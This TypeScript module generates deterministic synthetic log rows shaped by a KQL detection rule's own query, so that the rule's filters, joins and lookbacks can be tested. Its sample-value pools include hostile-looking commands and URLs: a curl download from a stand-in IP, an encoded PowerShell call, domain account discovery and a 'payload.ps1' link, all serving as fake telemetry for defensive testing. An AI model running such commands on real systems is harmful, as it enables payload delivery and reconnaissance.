// Generated rows for a rule's tables, shaped by the rule's own query so that its filters pass often: the
// needles of `==`, `has`, `in`, `startswith`… go into the columns (and bag keys) they are compared with, the
// keys the query reads from dynamic values (`X.key`, `X["key"]`, `parse_json(X).key`, through extend aliases
// and mv-expand) are in the bags it reads, and datetimes fall inside the query's lookbacks. Same-named columns
// share a small pool of values across tables, so joins and `in (subquery)` find partners and summarize forms
// groups. Deterministic: the rows depend only on the query, the schema and the seed.
import { parseAndAnalyze, Symbols, toArray } from '../../server/src/kusto/bridge';
import { kindOf, nodeText, type Node } from '../../server/src/engine/compile/syntax';
import { isLiteral, literalValue } from '../../server/src/engine/compile/literals';
import { TICKS_PER_DAY, TICKS_PER_HOUR, TICKS_PER_SECOND, type Value } from '../../server/src/engine/values';
import type { Table } from '../../server/src/engine/table';
import type { ColumnSpec } from '../../server/src/kusto/bridge';

/** How a needle must appear in a value for the comparison to be true. */
type Match = 'equal' | 'term' | 'substring' | 'prefix' | 'suffix' | 'greater' | 'less';

/** A step into a dynamic value: a bag key or an array element. */
type Step = string | number;
/** A column (or a key below it); `wrap` makes a value of the column from a needle of a part (split(X, d)[i]). */
interface PathRef { root: string; path: Step[]; wrap?: (needle: string) => string }

/**
 * The keys a query reads below a dynamic value: `keys` of a bag, `element` when it indexes an array, and
 * `length`, the fewest elements that array needs for the highest index read (`Parameters[3]`).
 */
interface Shape { keys: Map<string, Shape>; element?: Shape; length?: number }
const newShape = (): Shape => ({ keys: new Map() });

/** What the query tells about its data. */
export interface QueryFacts {
  /** Needles by the column or bag key they are compared with. */
  hints: Map<string, { match: Match; value: Value }[]>;
  /** The key shapes read below each column (or extend alias resolved to its column). */
  shapes: Map<string, Shape>;
  /** String columns the query parses as JSON (parse_json, todynamic) or XML (parse_xml). */
  jsonColumns: Set<string>;
  xmlColumns: Set<string>;
  /** For each column a simple `parse` reads: its patterns, as constants and the names of captured columns. */
  parses: Map<string, { text?: string; capture?: { name: string; type: string } }[][]>;
  /** Names the query reads with column_ifexists("X", …): columns that come from the data (bag_unpack, pivot). */
  optionalColumns: Set<string>;
  /** Every string literal of the query, a fallback pool for any string column. */
  strings: string[];
  /** The longest timespan literal (the rule's lookback), in ticks. */
  lookback: number;
}

const CONVERSIONS = new Set(['tostring', 'tolower', 'toupper', 'toint', 'tolong', 'todouble', 'toreal', 'tobool', 'todatetime', 'trim', 'column_ifexists', 'todecimal', 'toguid']);
const JSON_PARSERS = new Set(['parse_json', 'todynamic', 'parsejson']);

const MATCH_OF: Record<string, Match> = {
  EqualExpression: 'equal', EqualTildeExpression: 'equal', InExpression: 'equal', InCsExpression: 'equal',
  HasExpression: 'term', HasCsExpression: 'term', HasAnyExpression: 'term', HasAllExpression: 'term',
  HasPrefixExpression: 'prefix', HasPrefixCsExpression: 'prefix', HasSuffixExpression: 'suffix', HasSuffixCsExpression: 'suffix',
  ContainsExpression: 'substring', ContainsCsExpression: 'substring',
  StartsWithExpression: 'prefix', StartsWithCsExpression: 'prefix', EndsWithExpression: 'suffix', EndsWithCsExpression: 'suffix',
  GreaterThanExpression: 'greater', GreaterThanOrEqualExpression: 'greater', LessThanExpression: 'less', LessThanOrEqualExpression: 'less',
};

const children = (el: Node): Node[] => {
  const out: Node[] = [];
  for (let i = 0; i < el.ChildCount; i++) {
    const c = el.GetChild(i);
    if (c && !c.IsToken) out.push(c);
  }
  return out;
};

/** Visits a tree in text order: `visit` before a node's children, `after` once they are done. */
function walk(el: Node, visit: (n: Node) => void, after?: (n: Node) => void): void {
  visit(el);
  for (const c of children(el)) walk(c, visit, after);
  after?.(el);
}

const stripQuotes = (s: string) => s.replace(/^\[?\s*(['"@]*)(.*?)['"]?\s*\]?$/s, '$2');

function safeLiteral(node: Node): Value | undefined {
  try {
    return literalValue(node, (what) => new Error(what));
  } catch {
    return undefined;
  }
}

/** Reads the query's needles, bag keys, parsed columns and lookback from its analysed tree. */
export function queryFacts(query: string, globals: Kusto.Language.GlobalState): QueryFacts {
  const code = parseAndAnalyze(query, globals);
  const facts: QueryFacts = { hints: new Map(), shapes: new Map(), jsonColumns: new Set(), xmlColumns: new Set(), parses: new Map(), optionalColumns: new Set(), strings: [], lookback: 0 };
  const lets = new Map<string, Node>();
  const aliases = new Map<string, PathRef>();

  const pathOf = (e: Node, depth = 0): PathRef | undefined => {
    if (!e || depth > 20) return undefined;
    switch (kindOf(e)) {
      case 'ParenthesizedExpression': case 'SimpleNamedExpression': return pathOf(e.Expression, depth + 1);
      case 'NameReference': {
        const name = String(e.SimpleName);
        if (e.ReferencedSymbol instanceof Symbols.ColumnSymbol || !e.ReferencedSymbol) {
          return aliases.get(name) ?? { root: name, path: [] };
        }
        return undefined;
      }
      case 'PathExpression': {
        const base = pathOf(e.Expression, depth + 1);
        return base && { root: base.root, path: [...base.path, stripQuotes(nodeText(e.Selector))] };
      }
      case 'ElementExpression': {
        const base = pathOf(e.Expression, depth + 1);
        if (base?.wrap) return base; // split(X, d)[i]: a part of X's text
        const selector = e.Selector?.Expression;
        const v = selector && isLiteral(selector) ? safeLiteral(selector) : undefined;
        if (!base) return undefined;
        if (typeof v === 'string') return { root: base.root, path: [...base.path, v] };
        if (typeof v === 'number') return { root: base.root, path: [...base.path, v] };
        return base;
      }
      case 'FunctionCallExpression': {
        const name = String(e.Name?.SimpleName ?? '').toLowerCase();
        const args: Node[] = children(e.ArgumentList).flatMap(children).map((x) => (kindOf(x) === 'SeparatedElement' ? x.Element : x));
        if (name === 'column_ifexists' && args[0] && isLiteral(args[0])) {
          const col = safeLiteral(args[0]);
          if (typeof col === 'string') facts.optionalColumns.add(col);
          return typeof col === 'string' ? { root: col, path: [] } : undefined;
        }
        if (name === 'trim' || name === 'trim_start' || name === 'trim_end') return pathOf(args[1], depth + 1);
        if (name === 'replace') return pathOf(args[2], depth + 1);
        // split(X, d)[0] == v and split(X, d)[-1] == v both hold for X = v + d + v
        if (name === 'split' && args[1] && isLiteral(args[1])) {
          const base = pathOf(args[0], depth + 1);
          const d = safeLiteral(args[1]);
          return base && !base.path.length && typeof d === 'string' ? { ...base, wrap: (v) => `${v}${d}${v}` } : undefined;
        }
        // array_slice(a, 3, 3)[0] reads a[3]
        if (name === 'array_slice') {
          const base = pathOf(args[0], depth + 1);
          const from = args[1] && isLiteral(args[1]) ? safeLiteral(args[1]) : undefined;
          if (base && typeof from === 'number' && from > 0) addShape({ root: base.root, path: [...base.path, from] });
          return base;
        }
        if (name === 'replace_regex' || name === 'replace_string' || name === 'url_decode') return pathOf(args[0], depth + 1);
        if (CONVERSIONS.has(name) || JSON_PARSERS.has(name) || name === 'parse_xml') return pathOf(args[0], depth + 1);
        return undefined;
      }
    }
    return undefined;
  };

  const addShape = (ref: PathRef) => {
    let shape = facts.shapes.get(ref.root);
    if (!shape) facts.shapes.set(ref.root, (shape = newShape()));
    for (const step of ref.path) {
      if (typeof step === 'number') {
        shape.length = Math.max(shape.length ?? 1, step + 1);
        shape = shape.element ??= newShape();
      }
      else {
        let next = shape.keys.get(step);
        if (!next) shape.keys.set(step, (next = newShape()));
        shape = next;
      }
    }
  };

  /** The literal values an operand stands for: literals, lists, dynamic arrays, and lets bound to them. */
  const literalsOf = (e: Node, depth = 0): Value[] => {
    if (!e || depth > 10) return [];
    if (isLiteral(e)) {
      const v = safeLiteral(e);
      return v === undefined ? [] : Array.isArray(v) ? v.flat(5) : [v];
    }
    if (kindOf(e) === 'NameReference' && lets.has(String(e.SimpleName))) return literalsOf(lets.get(String(e.SimpleName)), depth + 1);
    return children(e).flatMap((c) => literalsOf(c, depth + 1));
  };

  const hint = (target: Node, match: Match, operand: Node) => {
    const ref = pathOf(target);
    if (!ref) return;
    if (ref.path.length) addShape(ref);
    const last = [...ref.path].reverse().find((s): s is string => typeof s === 'string');
    const name = last ?? (ref.path.length ? undefined : ref.root);
    if (!name) return;
    const values = literalsOf(operand).filter((v) => v !== null && typeof v !== 'object');
    if (!values.length) return;
    let list = facts.hints.get(name);
    if (!list) facts.hints.set(name, (list = []));
    for (const value of values) list.push({ match, value: ref.wrap && typeof value === 'string' ? ref.wrap(value) : value });
  };

  /**
   * extend a = parse_json(X).k | … a.b  →  X.k.b;  mv-expand a = X  →  a is an element of X. Bound once the
   * expression's own names are read, so `extend X = parse_json(X)` reads the column X inside.
   */
  const bindAlias = (n: Node) => {
    const kind = kindOf(n);
    if (kind !== 'SimpleNamedExpression' && kind !== 'MvExpandExpression') return;
    const inner = n.Expression;
    const ref = inner && pathOf(inner);
    const name = kind === 'SimpleNamedExpression' ? String(n.Name?.SimpleName ?? '') : undefined;
    const expanded = isExpanded(n);
    if (ref) {
      const target = expanded ? { root: ref.root, path: [...ref.path, 0] } : ref;
      addShape(target);
      const alias = name ?? (kindOf(inner) === 'NameReference' ? String(inner.SimpleName) : undefined);
      if (alias && (alias !== target.root || target.path.length)) aliases.set(alias, target);
    }
  };

  walk(code.Syntax as Node, (n) => {
    const kind = kindOf(n);
    if (kind === 'LetStatement') lets.set(String(n.Name?.SimpleName), n.Expression);
  });
  walk(code.Syntax as Node, (n) => {
    const kind = kindOf(n);
    if (kind === 'StringLiteralExpression') {
      const v = safeLiteral(n);
      if (typeof v === 'string' && v.length < 200) facts.strings.push(v);
    } else if (kind === 'TimespanLiteralExpression') {
      const v = safeLiteral(n);
      if (typeof v === 'number' && v > facts.lookback) facts.lookback = v;
    } else if ((kind === 'ParseOperator' || kind === 'ParseWhereOperator') && !/kind\s*=\s*regex/i.test(nodeText(n))) {
      const ref = pathOf(n.Expression);
      if (ref && !ref.path.length) {
        const template = toArray<Node>(n.Patterns).map((p) => {
          const k = kindOf(p);
          if (k === 'StarExpression') return {};
          if (isLiteral(p)) return { text: String(safeLiteral(p) ?? '') };
          const decl = k === 'NameAndTypeDeclaration' ? p.Name : p;
          return { capture: { name: String(decl?.SimpleName ?? ''), type: k === 'NameAndTypeDeclaration' ? String(p.Type?.ReferencedSymbol?.Name ?? 'string') : 'string' } };
        });
        let list = facts.parses.get(ref.root);
        if (!list) facts.parses.set(ref.root, (list = []));
        list.push(template);
      }
    } else if (kind === 'PathExpression' || kind === 'ElementExpression') {
      const ref = pathOf(n);
      if (ref && ref.path.length) addShape(ref);
    } else if (kind === 'FunctionCallExpression') {
      const name = String(n.Name?.SimpleName ?? '').toLowerCase();
      const arg = children(n.ArgumentList).flatMap(children).map((x) => (kindOf(x) === 'SeparatedElement' ? x.Element : x))[0];
      const ref = arg && pathOf(arg);
      if (ref && !ref.path.length) {
        if (JSON_PARSERS.has(name)) facts.jsonColumns.add(ref.root);
        if (name === 'parse_xml') facts.xmlColumns.add(ref.root);
      }
    }
    const match = MATCH_OF[kind];
    if (match && n.Left && n.Right) {
      hint(n.Left, match, n.Right);
      if (match === 'equal' || match === 'greater' || match === 'less') {
        const flipped: Match = match === 'greater' ? 'less' : match === 'less' ? 'greater' : 'equal';
        hint(n.Right, flipped, n.Left);
      }
    }
  }, bindAlias);
  return facts;
}

/** Whether a named expression sits in mv-expand or mv-apply (its name is then one element of the array). */
function isExpanded(n: Node): boolean {
  for (let p = n.Parent, i = 0; p && i < 4; p = p.Parent, i++) {
    const k = kindOf(p);
    if (k === 'MvExpandOperator' || k === 'MvApplyOperator') return true;
    if (k.endsWith('Operator')) return false;
  }
  return false;
}

/** mulberry32: a small seeded generator, so the rows are the same on every run. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export function hashText(s: string): number {
  let h = 2166136261;
  for (let i = 0; i < s.length; i++) h = Math.imul(h ^ s.charCodeAt(i), 16777619);
  return h >>> 0;
}

const WORDS = ['alpha', 'contoso', 'admin', 'svc', 'Update', 'report', 'Temp', 'prod', 'fabrikam', 'Sign-in'];
const HOSTS = ['ws1.contoso.com', 'WS2', 'srv-dc01.contoso.local', 'laptop7', 'web01.fabrikam.com'];
const USERS = ['alice@contoso.com', 'bob@fabrikam.com', 'CONTOSO\\carol', 'svc_backup', 'admin@contoso.onmicrosoft.com'];
const IPS = ['10.0.0.5', '192.168.1.20', '172.16.4.3', '8.8.8.8', '52.96.10.4', '203.0.113.7', '::1', '2001:db8::5'];
const PATHS = ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '/usr/bin/bash', 'C:\\Users\\alice\\AppData\\Local\\Temp\\a.dll', 'rundll32.exe'];
const COMMANDS = ['cmd.exe /c whoami', 'powershell.exe -enc SQBFAFgA', 'rundll32.exe shell32.dll,Control_RunDLL', 'net user /domain', 'bash -c "curl http://203.0.113.7/x"'];
const URLS = ['https://login.microsoftonline.com/common', 'http://203.0.113.7/payload.ps1', 'https://contoso.sharepoint.com/sites/a'];

/** A plausible value for a column or key by its name, drawn from small shared pools. */
function plainString(name: string, r: () => number): string {
  const pick = <T>(xs: T[]) => xs[Math.floor(r() * xs.length)];
  if (/ip(address)?$|^ip|ipaddr|address$|^src$|^dst$|clientip|callerip/i.test(name)) return pick(IPS);
  if (/url|uri|domain$/i.test(name)) return pick(URLS);
  if (/commandline|cmdline|command$/i.test(name)) return pick(COMMANDS);
  if (/(file|folder|image|process)(name|path)?$|path$/i.test(name)) return pick(PATHS);
  if (/account|user|upn|principal|caller|identity|actor|initiatedby/i.test(name)) return pick(USERS);
  if (/computer|device|host|machine|workstation/i.test(name)) return pick(HOSTS);
  if (/(^|[a-z])id$|guid|correlation|tenant/i.test(name)) return guid(r);
  return `${pick(WORDS)}${Math.floor(r() * 4)}`;
}

const ODD_STRINGS = ['null', '[]', '{}', '{"a":', '<x>', '\u00e9\u00df\u4e2d \ud83d\ude00', ' ', '\\', '$1 (?:[', '-1', '1e400', 'NaN', 'x'.repeat(5000), '0x1F', 'true', '2024-13-45'];
const ODD_NUMBERS = [0, -1, 2147483647, -2147483648, 9007199254740991, 1e15, 0.5, -0.5];

/** An edge value of a column type. */
function oddValue(type: string, r: () => number, now: number): Value {
  const pick = <T>(xs: T[]) => xs[Math.floor(r() * xs.length)];
  switch (type) {
    case 'string': return pick(ODD_STRINGS);
    case 'int': return pick([0, -1, 2147483647, -2147483648, null]);
    case 'long': return pick([...ODD_NUMBERS.filter(Number.isInteger), null]);
    case 'real': case 'decimal': return pick([...ODD_NUMBERS, null]);
    case 'bool': return null;
    case 'datetime': return pick([null, 0, now + 365 * TICKS_PER_DAY, now - 5000 * TICKS_PER_DAY, now]);
    case 'timespan': return pick([null, 0, -TICKS_PER_HOUR]);
    case 'guid': return null;
    case 'dynamic': return pick<Value>(['', 'text', 5, -1.5, true, [], {}, [[1, [2]], { a: null }], { '': 1, 'a.b': [] }, [null], { k: { k: { k: 'deep' } } }]);
  }
  return null;
}

function guid(r: () => number): string {
  const hex = (n: number) => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join('');
  return `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`;
}

/** Generates a rule's tables: call `table(name, columns)` for each table the engine asks for. */
export class DataGenerator {
  private readonly pools = new Map<string, Value[]>();
  /**
   * `odd`: the share of cells given an edge value of their type instead (null datetimes, huge and negative
   * numbers, unicode and regex-special text, dynamic values of the wrong shape), to look for crashes.
   */
  constructor(private readonly facts: QueryFacts, private readonly now: number, private readonly seed: number, private readonly odd = 0) {}

  /** What the query says about a column, also under the names union gives it when its type differs (X_dynamic). */
  private lookup<T>(map: Map<string, T>, name: string): T | undefined {
    return map.get(name) ?? map.get(`${name}_dynamic`) ?? map.get(`${name}_string`) ?? map.get(`${name}_long`) ?? map.get(`${name}_int`);
  }

  table(name: string, columns: ColumnSpec[], rows: number): Table {
    const r = rng(this.seed ^ hashText(name));
    const out: Value[][] = [];
    for (let i = 0; i < rows; i++) out.push(columns.map((c) => this.cell(c.name, c.type, r)));
    return { columns: columns.map((c) => ({ name: c.name, type: c.type as never })), rows: out };
  }

  private cell(name: string, type: string, r: () => number): Value {
    if (this.odd && r() < this.odd) return oddValue(type, r, this.now);
    switch (type) {
      case 'string': return this.stringCell(name, r);
      case 'int': case 'long': case 'real': case 'decimal': return this.numberCell(name, type, r);
      case 'bool': return r() < 0.1 ? null : r() < 0.5;
      case 'datetime': return this.datetimeCell(name, r);
      case 'timespan': return r() < 0.1 ? null : Math.floor(r() * 48) * TICKS_PER_HOUR / 4;
      case 'guid': return r() < 0.05 ? null : this.pooled(`guid:${name}`, guid, r);
      case 'dynamic': return this.dynamicCell(name, r);
    }
    return null;
  }

  /** Most cells come from a small per-name pool (shared by every table), so keys repeat and joins match. */
  private pooled(key: string, make: (pr: () => number) => Value, r: () => number): Value {
    let pool = this.pools.get(key);
    if (!pool) {
      const pr = rng(this.seed ^ hashText(key));
      pool = Array.from({ length: 6 }, () => make(pr));
      this.pools.set(key, pool);
    }
    // skewed towards the first values, so that groups of several key columns still gather many rows
    return pool[Math.floor(r() ** 2.5 * pool.length)];
  }

  private hinted(name: string, r: () => number): Value | undefined {
    const hints = this.lookup(this.facts.hints, name);
    if (!hints?.length || r() < 0.15) return undefined;
    const h = hints[Math.floor(r() * hints.length)];
    if (typeof h.value === 'number' || typeof h.value === 'boolean') {
      if (h.match === 'greater') return typeof h.value === 'number' ? h.value + 1 + Math.floor(r() * 5) : h.value;
      if (h.match === 'less') return typeof h.value === 'number' ? h.value - 1 - Math.floor(r() * 5) : h.value;
      return h.value;
    }
    const needle = String(h.value);
    const filler = () => WORDS[Math.floor(r() * WORDS.length)];
    switch (h.match) {
      case 'equal': return needle;
      case 'prefix': return `${needle}${r() < 0.5 ? '' : filler()}`;
      case 'suffix': return `${r() < 0.5 ? '' : filler()}${needle}`;
      case 'greater': case 'less': return needle;
      default: {
        // several needles of the same column (a has "x" and a has "y"), around other terms
        const more = hints.filter((x) => x.match !== 'equal' && typeof x.value === 'string' && r() < 0.3).map((x) => String(x.value));
        return [r() < 0.5 ? filler() : '', needle, ...more, r() < 0.5 ? filler() : ''].filter(Boolean).join(' ');
      }
    }
  }

  private stringCell(name: string, r: () => number): Value {
    if (r() < 0.07) return '';
    if (this.facts.xmlColumns.has(name) && r() < 0.8) return this.xmlText(name, r);
    if (this.facts.jsonColumns.has(name) && r() < 0.8) return JSON.stringify(this.dynamicValue(name, r, 0));
    const parses = this.facts.parses.get(name);
    if (parses && r() < 0.85) return parses.map((t) => this.parsedText(t, r)).join(' ');
    const h = this.hinted(name, r);
    if (h !== undefined) return typeof h === 'string' ? h : String(h);
    if (this.facts.strings.length && r() < 0.15) return this.facts.strings[Math.floor(r() * this.facts.strings.length)];
    return this.pooled(`s:${name}`, (pr) => plainString(name, pr), r);
  }

  private numberCell(name: string, type: string, r: () => number): Value {
    if (r() < 0.08) return null;
    const h = this.hinted(name, r);
    let n: number;
    if (typeof h === 'number') n = h;
    else if (typeof h === 'string' && h.trim() !== '' && !Number.isNaN(Number(h))) n = Number(h);
    else n = Math.floor(r() * 20) * (r() < 0.1 ? 100 : 1);
    if (type === 'real') return r() < 0.3 ? n + Math.floor(r() * 100) / 100 : n;
    if (type === 'int') return Math.max(-2147483648, Math.min(2147483647, Math.trunc(n)));
    return Math.trunc(n);
  }

  private datetimeCell(name: string, r: () => number): Value {
    const event = /^(TimeGenerated|Timestamp)$/.test(name);
    if (!event && r() < 0.05) return null;
    // expiry dates and the like: some in the future
    if (!event && r() < 0.3) return this.now + Math.floor(r() * 30 * TICKS_PER_DAY / TICKS_PER_SECOND) * TICKS_PER_SECOND;
    const lookback = Math.max(TICKS_PER_HOUR, Math.min(this.facts.lookback || TICKS_PER_DAY, 30 * TICKS_PER_DAY));
    // half in the last hour (the usual detection window), the rest over the lookback (baselines)
    const back = r() < 0.5 ? r() * TICKS_PER_HOUR : r() * lookback * 1.1;
    return this.now - Math.floor(back / TICKS_PER_SECOND) * TICKS_PER_SECOND - Math.floor(r() * 1000) * 10_000;
  }

  private dynamicCell(name: string, r: () => number): Value {
    if (r() < 0.08) return null;
    return this.dynamicValue(name, r, 0);
  }

  /** A value with the keys the query reads below `name` (a bag, or an array of bags when it indexes one). */
  private dynamicValue(name: string, r: () => number, depth: number): Value {
    const shape = this.lookup(this.facts.shapes, name);
    if (!shape) {
      const x = r();
      if (x < 0.4) return [this.leaf(name, r), this.leaf(name, r)];
      if (x < 0.7) return { [name]: this.leaf(name, r), Count: Math.floor(r() * 10) };
      return this.leaf(name, r);
    }
    return this.shaped(name, shape, r, depth);
  }

  private shaped(name: string, shape: Shape, r: () => number, depth: number): Value {
    if (depth > 6) return this.leaf(name, r);
    // the column itself is compared (TargetResources has "x"): put the needle in a value of the bag
    if (depth === 0 && this.facts.hints.has(name) && r() < 0.5) return [{ value: this.leaf(name, r) }, this.shaped(name, shape, r, 1)];
    const bagOf = (s: Shape): Value => {
      if (!s.keys.size) return s.element ? this.shaped(name, s, r, depth + 1) : this.leaf(name, r);
      const bag: { [k: string]: Value } = {};
      for (const [k, sub] of s.keys) {
        if (r() < 0.05) continue;
        bag[k] = sub.keys.size || sub.element ? this.shaped(k, sub, r, depth + 1) : r() < 0.05 ? null : this.leaf(k, r);
      }
      return bag;
    };
    if (shape.element) {
      const n = (shape.length ?? 1) + Math.floor(r() * 3);
      return Array.from({ length: n }, () => bagOf(shape.element!));
    }
    // an array of bags where a bag is read, sometimes: mv-expand over a bag-reading column is common
    if (r() < 0.2) return [bagOf(shape), bagOf(shape)];
    return bagOf(shape);
  }

  private leaf(name: string, r: () => number): Value {
    const h = this.hinted(name, r);
    if (h !== undefined) return h;
    const x = r();
    if (x < 0.15) return Math.floor(r() * 20);
    if (x < 0.2) return r() < 0.5;
    return this.pooled(`s:${name}`, (pr) => plainString(name, pr), r);
  }

  /** Text that a simple `parse` with these patterns matches: constants as written, captures filled in. */
  private parsedText(template: { text?: string; capture?: { name: string; type: string } }[], r: () => number): string {
    return template.map((p) => {
      if (p.text !== undefined) return p.text;
      if (!p.capture) return r() < 0.5 ? '' : WORDS[Math.floor(r() * WORDS.length)];
      const { name, type } = p.capture;
      if (type === 'string') {
        const h = this.hinted(name, r);
        return h !== undefined && h !== null ? String(h) : String(this.pooled(`s:${name}`, (pr) => plainString(name, pr), r));
      }
      if (type === 'datetime') return new Date(Date.UTC(2024, 0, 1) - Math.floor(r() * 3_600_000)).toISOString();
      if (type === 'bool') return r() < 0.5 ? 'true' : 'false';
      const h = this.hinted(name, r);
      return typeof h === 'number' ? String(h) : String(Math.floor(r() * 20));
    }).join('');
  }

  /**
   * Windows event XML: `[<DataItem>]<EventData><Data Name="k">v</Data>…</EventData>` with the keys the query
   * reads (bag keys, column_ifexists names, the names it compares `@Name` with), and its needles for the column.
   */
  private xmlText(name: string, r: () => number): string {
    const keys = new Set<string>([...this.facts.optionalColumns].filter((k) => /^\w+$/.test(k)));
    for (const h of this.facts.hints.get('@Name') ?? []) keys.add(String(h.value));
    const collect = (s: Shape | undefined) => {
      if (!s) return;
      for (const [k, sub] of s.keys) {
        if (!k.startsWith('@') && !['EventData', 'Data', 'DataItem', 'UserData', '#text'].includes(k)) keys.add(k);
        collect(sub);
      }
      collect(s.element);
    };
    collect(this.facts.shapes.get(name));
    for (const k of ['SubjectUserName', 'TargetUserName', 'IpAddress']) keys.add(k);
    const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
    const text = (k: string) => {
      const own = this.facts.hints.get(k)?.length ? this.hinted(k, r) : undefined;
      return String(own ?? this.hinted('#text', r) ?? this.leaf(k, r) ?? '');
    };
    let data = [...keys].map((k) => `<Data Name="${esc(k)}">${esc(text(k))}</Data>`).join('');
    const needle = this.hinted(name, r);
    if (needle !== undefined && needle !== null) data += `<Data Name="Details">${esc(String(needle))}</Data>`;
    const eventData = `<EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event">${data}</EventData>`;
    const shape = this.facts.shapes.get(name);
    return shape?.keys.has('DataItem') ? `<DataItem type="System.XmlData">${eventData}</DataItem>` : eventData;
  }
}
